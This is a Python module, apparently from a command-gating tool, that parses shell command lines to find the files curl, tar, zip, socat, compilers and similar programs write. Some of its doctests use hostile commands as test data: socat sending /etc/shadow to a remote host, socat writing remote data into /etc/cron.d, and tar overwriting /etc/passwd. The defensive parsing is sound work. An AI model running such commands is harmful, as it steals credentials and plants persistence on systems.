"""Files a program writes because an option or operand names its output, from its manual.

``curl -o FILE``, ``sort -o FILE``, ``gcc -o FILE``, ``openssl ... -out FILE``, tar's
archive when it creates one (``tar cf X``, ``tar -czf X``, ``--file=X``), zip's archive,
uniq's second operand and the file addresses socat writes (``socat_files``). ``-``
(standard output) is not a file. For any other program, a path given to ``--output``,
``--output-file``, ``--outfile`` or ``--output-document``: the GNU Coding Standards' table
of long options gives ``--output`` one meaning across programs, the file to write (a value
that is no path, ``kubectl get -o json``'s format, is none).

>>> from neuroplast.gate.shell import split_command
>>> line = "curl -sSLo /etc/x https://x.io; tar czf /tmp/a.tgz src; tar xf a.tar; uniq a b"
>>> [output_files(s) for s in split_command(line)]
[['/etc/x'], ['/tmp/a.tgz'], [], ['b']]
"""

from __future__ import annotations

import re
from collections.abc import Container, Iterable

from neuroplast.gate.shell import Segment

__all__ = ["OUTPUT_OPTIONS", "SCRIPT_INTERPRETERS", "TARS", "has_short_option", "leads_to",
           "names_option", "operands", "option_values", "output_files", "script_matches",
           "socat_files", "starts_with", "stdout_to_file"]

_COMPILER = ("-o",)  # gcc(1), clang(1), rustc --help, as(1), ld(1): '-o file'
_WGET = ("-O", "--output-document", "-o", "--output-file", "-a", "--append-output",
         "--save-cookies", "-P", "--directory-prefix")
# Programs whose one-dash options are words, not clusters of letters (gcc -fno-common).
_NO_CLUSTERS = frozenset({"gcc", "g++", "cc", "c++", "clang", "clang++", "gfortran", "tcc",
                          "nvcc", "rustc", "ld", "as", "go", "openssl"})
# GNU tar and its kin, one reading of their options (tar(1), bsdtar(1))
TARS = frozenset({"tar", "gtar", "bsdtar"})
# program (or "program subcommand") -> options whose value is a file the program writes.
OUTPUT_OPTIONS: dict[str, tuple[str, ...]] = {
    # curl(1): -o/--output, -c/--cookie-jar, -D/--dump-header, --trace, --trace-ascii,
    # --libcurl, --etag-save, --stderr each write the named file
    "curl": ("-o", "--output", "-c", "--cookie-jar", "-D", "--dump-header", "--trace",
             "--trace-ascii", "--libcurl", "--etag-save", "--stderr"),
    # wget manual: -O/--output-document, -o/--output-file, -a/--append-output (the log),
    # --save-cookies, and -P/--directory-prefix, the directory it saves into; GNU Wget2
    # keeps these options (wget2 --help)
    "wget": _WGET, "wget2": _WGET,
    "sort": ("-o", "--output"),  # sort(1): '-o, --output=FILE write result to FILE'
    "shuf": ("-o", "--output"),  # shuf(1)
    "iconv": ("-o", "--output"),  # iconv(1)
    "patch": ("-o", "--output"),  # patch(1): '-o outfile'
    "pandoc": ("-o", "--output"),  # pandoc manual: '-o FILE, --output=FILE'
    "yt-dlp": ("-o", "--output"),  # yt-dlp README, 'Output template'
    "youtube-dl": ("-o", "--output"),
    "gpg": ("-o", "--output"), "gpg2": ("-o", "--output"),  # gpg(1): '--output file, -o'
    "zstd": ("-o",),  # zstd(1): '-o FILE: save result into FILE'
    "pg_dump": ("-f", "--file"), "pg_dumpall": ("-f", "--file"),  # PostgreSQL docs
    "mysqldump": ("-r", "--result-file"),  # MySQL manual: '--result-file=file_name, -r'
    "strace": ("-o", "--output"), "ltrace": ("-o", "--output"),  # strace(1), ltrace(1)
    # openssl(1): '-out filename', '-keyout filename' (req, genpkey, x509, enc, dgst...)
    "openssl": ("-out", "-keyout"),
    "gcc": _COMPILER, "g++": _COMPILER, "cc": _COMPILER, "c++": _COMPILER,
    "clang": _COMPILER, "clang++": _COMPILER, "gfortran": _COMPILER, "tcc": _COMPILER,
    "nvcc": _COMPILER, "rustc": _COMPILER, "ld": _COMPILER, "as": _COMPILER,
    "go build": ("-o",), "go test": ("-o",),  # go help build: '-o forces build to write...'
    "git archive": ("-o", "--output"),  # git-archive(1): '-o <file>, --output=<file>'
    "docker save": ("-o", "--output"), "docker export": ("-o", "--output"),  # docker CLI ref
    "podman save": ("-o", "--output"), "podman export": ("-o", "--output"),
}
# tar(1), GNU tar manual 'The Three Option Styles': in the traditional style (``tar cvf
# X``) the letters that take a value take the words after the cluster, in order; these
# are those letters. Modes that write the archive: c (create), r (append), u (update),
# A (concatenate) and --delete; x, t and d only read it.
_TAR_VALUE_LETTERS = frozenset("bCfFgHIKLNTVX")
_TAR_WRITE_LETTERS = frozenset("cruA")
_TAR_WRITE_LONG = frozenset({"--create", "--append", "--update", "--catenate",
                             "--concatenate", "--delete"})
# zip(1): 'zip [-options] [-b path] [-t mmddyyyy] [-n suffixes] [zipfile list]': the first
# operand is the archive it writes; -O/--output-file names another one.
_ZIP_VALUE_OPTIONS = frozenset({"-b", "-t", "-tt", "-n", "-P", "-O", "--output-file"})
# uniq(1): 'uniq [OPTION]... [INPUT [OUTPUT]]'; -f, -s, -w take a number.
_UNIQ_VALUE_OPTIONS = frozenset({"-f", "-s", "-w"})


_WRITES_REDIRECT = (">", ">>", ">|", "&>", "&>>")


def stdout_to_file(seg: Segment) -> bool:
    """Whether ``seg``'s standard output is redirected to a file (``> f``, ``1>> f``,
    ``&> f``; not ``/dev/null``), so what it prints lands there instead of the terminal.

    >>> from neuroplast.gate.shell import split_command
    >>> [stdout_to_file(s) for s in split_command("wg genkey > k; wg genkey 2> e; a 1>>f")]
    [True, False, True]
    """
    return any((op[1:] if op.startswith("1") else op) in _WRITES_REDIRECT
               and target not in ("", "/dev/null") for op, target in seg.redirects)


def option_values(argv: tuple[str, ...], options: tuple[str, ...] | frozenset[str],
                  *, clusters: bool = True) -> list[str]:
    """Values of ``options`` in ``argv`` in every getopt form.

    ``--opt=v`` and ``--opt v``; ``-o v``, ``-ov``, and in a cluster of letters the rest
    of it (``-cfout.tar``) or the next word (``-sSLo v``); a single-dash long option
    (``-out v``) only as the next word. Compilers take no clusters (``gcc -fno-x`` is one
    option), hence ``clusters=False``: only ``-ofile``.

    >>> option_values(("cp", "-rt", "/etc", "a", "-t/opt", "--target-directory=/srv"),
    ...               ("-t", "--target-directory"))
    ['/etc', '/opt', '/srv']
    """
    letters = {o[1] for o in options if len(o) == 2 and o[0] == "-" and o[1] != "-"}
    values = []
    for i, a in enumerate(argv[1:], 1):
        following = argv[i + 1] if i + 1 < len(argv) else None
        name, eq, value = a.partition("=")
        if a.startswith("--"):
            if eq and name in options:
                values.append(value)
            elif a in options and following is not None:
                values.append(following)
        elif a in options:
            if following is not None:
                values.append(following)
        elif a[:1] == "-" and len(a) > 2:
            # a cluster: the letter takes the rest of it (-ofile, -cfout.tar) or, when it
            # ends the cluster, the next word (-sSLo file)
            for j, c in enumerate(a[1:], 1):
                if not c.isalpha() or (j > 1 and not clusters):
                    break
                if c in letters:
                    if a[j + 1:] or following is not None:
                        values.append(a[j + 1:] or str(following))
                    break
    return values


def operands(argv: tuple[str, ...], values: frozenset[str]) -> list[str]:
    """Plain words of ``argv`` after the program, without the values of the options in
    ``values`` (which take the next word).

    >>> operands(("kadmin", "-p", "admin/admin", "cpw", "bob"), frozenset({"-p"}))
    ['cpw', 'bob']
    """
    words, skip = [], False
    for a in argv[1:]:
        if skip:
            skip = False
        elif a.startswith("-"):
            skip = a in values
        else:
            words.append(a)
    return words


def starts_with(plain: list[str], leads: Iterable[tuple[str, ...]]) -> bool:
    """Whether the plain words start with one of ``leads`` (``("release", "delete")`` for
    ``gh release delete v1``).

    >>> starts_with(["release", "delete", "v1"], [("release", "delete"), ("repo",)])
    True
    """
    return any(tuple(plain[:len(lead)]) == lead for lead in leads)


def leads_to(plain: list[str], commands: tuple[tuple[tuple[str, ...], frozenset[str]], ...]
             ) -> bool:
    """Whether the plain words start with one of ``commands``' leads followed by one of its
    verbs (``(("secret",), {"set"})`` for ``gh secret set``; a lead of ``()`` puts the verb
    first).

    >>> leads_to(["secret", "set", "TOKEN"], ((("secret",), frozenset({"set", "delete"})),))
    True
    """
    return any(starts_with(plain, (lead,))
               and bool(verbs.intersection(plain[len(lead):len(lead) + 1]))
               for lead, verbs in commands)


def names_option(words: Iterable[str], options: Container[str]) -> bool:
    """Whether one of ``options`` is among ``words``, a ``--name=value`` counting as
    ``--name``.

    >>> names_option(("--dry-run=client", "x"), {"--dry-run"}), names_option(("-n",), ("-v",))
    (True, False)
    """
    return any(a.partition("=")[0] in options for a in words)


# interpreters a call may hand code to on its command line (python -c, perl -e, node -e,
# pwsh -Command); any version of each (python3.12)
SCRIPT_INTERPRETERS = frozenset({"python", "python2", "python3", "perl", "ruby", "node", "php",
                                 "pwsh", "powershell"})


def script_matches(seg: Segment, pattern: re.Pattern[str],
                   interpreters: frozenset[str] = SCRIPT_INTERPRETERS) -> bool:
    r"""Whether ``seg`` runs one of ``interpreters`` with an argument ``pattern`` finds: a
    script's own call in the code handed to it (an act's readers' way to read scripts).

    >>> from neuroplast.gate.shell import split_command
    >>> [script_matches(s, re.compile(r"os\.nice\(")) for s in split_command(
    ...     "python3.12 -c 'import os; os.nice(5)'; echo 'os.nice(5)'")]
    [True, False]
    """
    return seg.head.rstrip("0123456789.") in interpreters and any(
        pattern.search(w) for w in seg.argv[1:])


def has_short_option(words: tuple[str, ...] | list[str], letters: str, *,
                     stop: str = "") -> bool:
    """Whether one of the one-letter options ``letters`` is among ``words``, alone or in a
    cluster (``-xf`` holds ``-f``). A letter of ``stop`` takes the rest of its cluster as its
    argument, so no option follows it there (perl's ``-MList::Util`` holds no ``-i``).

    >>> has_short_option(("-xf", "s.xml"), "dcf"), has_short_option(("--file", "x"), "f")
    (True, False)
    >>> has_short_option(("-pi",), "i", stop="M"), has_short_option(("-MList::Util",), "i",
    ...                                                              stop="M")
    (True, False)
    """
    for a in words:
        if a[:1] != "-" or a[1:2] in ("", "-"):
            continue
        for ch in a[1:]:
            if ch in letters:
                return True
            if ch in stop:
                break
    return False


def _tar_archive_written(argv: tuple[str, ...]) -> list[str]:
    """The archive ``tar`` writes, when its mode writes one (``tar cf X``, ``-rf X``)."""
    args = argv[1:]
    if not args:
        return []
    bundle = args[0] if not args[0].startswith("-") else ""
    writes = bool(_TAR_WRITE_LETTERS & set(bundle)) or any(
        a in _TAR_WRITE_LONG or (a[:1] == "-" and a[1:2] != "-" and _TAR_WRITE_LETTERS & set(a))
        for a in args
    )
    if not writes:
        return []
    found = option_values(argv, ("-f", "--file"))
    if "f" in bundle:  # traditional style: f's value is the nth word after the cluster
        nth = sum(1 for c in bundle[: bundle.index("f")] if c in _TAR_VALUE_LETTERS)
        if nth + 1 < len(args):
            found.append(args[nth + 1])
    return [f for f in found if f != "-"]


def _first_operand_after(argv: tuple[str, ...], value_options: frozenset[str]) -> list[str]:
    operands, skip = [], False
    for a in argv[1:]:
        if skip:
            skip = False
        elif a in value_options:
            skip = True
        elif not a.startswith("-"):
            operands.append(a)
    return operands


# socat(1) ADDRESS TYPES naming a file: OPEN (FILE is its alias), GOPEN, CREATE (CREAT),
# PIPE with a name; 'If the address contains a slash', and no type, it is GOPEN
_SOCAT_FILE = re.compile(r"^(?:open|file|gopen|create|creat|pipe):([^,]+)", re.IGNORECASE)


def socat_files(argv: tuple[str, ...]) -> tuple[list[str], list[str]]:
    """(files read, files written) of socat's two addresses: socat(1) moves data both ways
    unless ``-u`` (from the first address to the second) or ``-U`` (the reverse).

    >>> socat_files(("socat", "-u", "TCP:x.io:80", "OPEN:/etc/cron.d/job,creat"))
    ([], ['/etc/cron.d/job'])
    >>> socat_files(("socat", "-u", "file:/etc/shadow", "tcp-connect:x.io:9"))
    (['/etc/shadow'], [])
    >>> socat_files(("socat", "STDIO", "./fifo,ignoreeof"))
    (['./fifo'], ['./fifo'])
    """
    addresses = [a for a in argv[1:] if a == "-" or not a.startswith("-")][:2]
    files = []
    for address in addresses:
        match, first = _SOCAT_FILE.match(address), address.split(",", 1)[0]
        files.append(match.group(1) if match else (
            first if "/" in first and ":" not in first else ""))
    files += [""] * (2 - len(files))
    if "-u" in argv:
        reads, writes = files[:1], files[1:]
    elif "-U" in argv:
        reads, writes = files[1:], files[:1]
    else:
        reads = writes = files
    return [f for f in reads if f], [f for f in writes if f]


_GNU_OUTPUT = ("--output", "--output-file", "--outfile", "--out-file", "--output-document")


def _path_like(value: str) -> bool:
    """A value that names a file: a directory part or a name with an extension."""
    return "/" in value or (
        "." in value.strip(".") and value.rpartition(".")[2].isalnum() and " " not in value)


def output_files(seg: Segment) -> list[str]:
    """Files ``seg`` writes because an option or operand names its output.

    >>> from neuroplast.gate.shell import split_command
    >>> line = "tar -cf ../x.tar .; tar --create --file=/etc/passwd src; zip -r /tmp/s.zip src"
    >>> [output_files(s) for s in split_command(line)]
    [['../x.tar'], ['/etc/passwd'], ['/tmp/s.zip']]
    >>> line = "ansible-inventory --list --output /var/log/x; kubectl get pods --output json"
    >>> [output_files(s) for s in split_command(line)]
    [['/var/log/x'], []]
    """
    argv, head = seg.argv, seg.head
    found: list[str] = []
    for key in (head, f"{head} {seg.subcommand}"):
        options = OUTPUT_OPTIONS.get(key)
        if options:
            found += option_values(argv, options, clusters=head not in _NO_CLUSTERS)
    if head in TARS:
        found += _tar_archive_written(argv)
    elif head == "zip":
        found += _first_operand_after(argv, _ZIP_VALUE_OPTIONS)[:1]
        found += option_values(argv, ("-O", "--output-file"))
    elif head == "uniq":
        found += _first_operand_after(argv, _UNIQ_VALUE_OPTIONS)[1:2]
    elif head == "socat":
        found += socat_files(argv)[1]
    if not found and head not in OUTPUT_OPTIONS:
        found += [v for v in option_values(argv, _GNU_OUTPUT) if _path_like(v)]
    return [f for f in found if f and f != "-"]
